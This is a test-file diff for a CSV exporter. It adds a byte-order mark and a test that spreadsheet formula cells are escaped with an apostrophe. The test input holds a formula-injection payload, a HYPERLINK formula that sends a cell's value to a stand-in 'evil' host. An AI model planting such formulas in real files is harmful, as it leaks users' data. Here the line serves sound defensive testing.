@@ -4,6 +4,15 @@ import { invalidRowsCsv } from './invalid-rows-csv.ts';
 it('writes line, reason and the own columns, quoted where needed', () => {
   const rows = [{ row: 2, line: 4, reason: '"ask" is not a phone number', cells: ['ask', 'Acme, Inc.', 'two\nlines'] }];
   expect(invalidRowsCsv(['Phone', 'Company', 'Note'], rows)).toBe(
-    'Line,Reason,Phone,Company,Note\r\n4,"""ask"" is not a phone number",ask,"Acme, Inc.","two\nlines"\r\n',
+    '\uFEFFLine,Reason,Phone,Company,Note\r\n4,"""ask"" is not a phone number",ask,"Acme, Inc.","two\nlines"\r\n',
+  );
+});
+
+it('holds no cell that a spreadsheet would run', () => {
+  const rows = [
+    { row: 2, line: 4, reason: 'Phone is empty', cells: ['', '=HYPERLINK("http://evil/?"&A1)', 'x;@SUM(1)'] },
+  ];
+  expect(invalidRowsCsv(['Phone', '=1+1', 'Note'], rows)).toBe(
+    `\uFEFFLine,Reason,Phone,"'=1+1",Note\r\n4,Phone is empty,,"'=HYPERLINK(""http://evil/?""&A1)","x;'@SUM(1)"\r\n`,
   );
 });
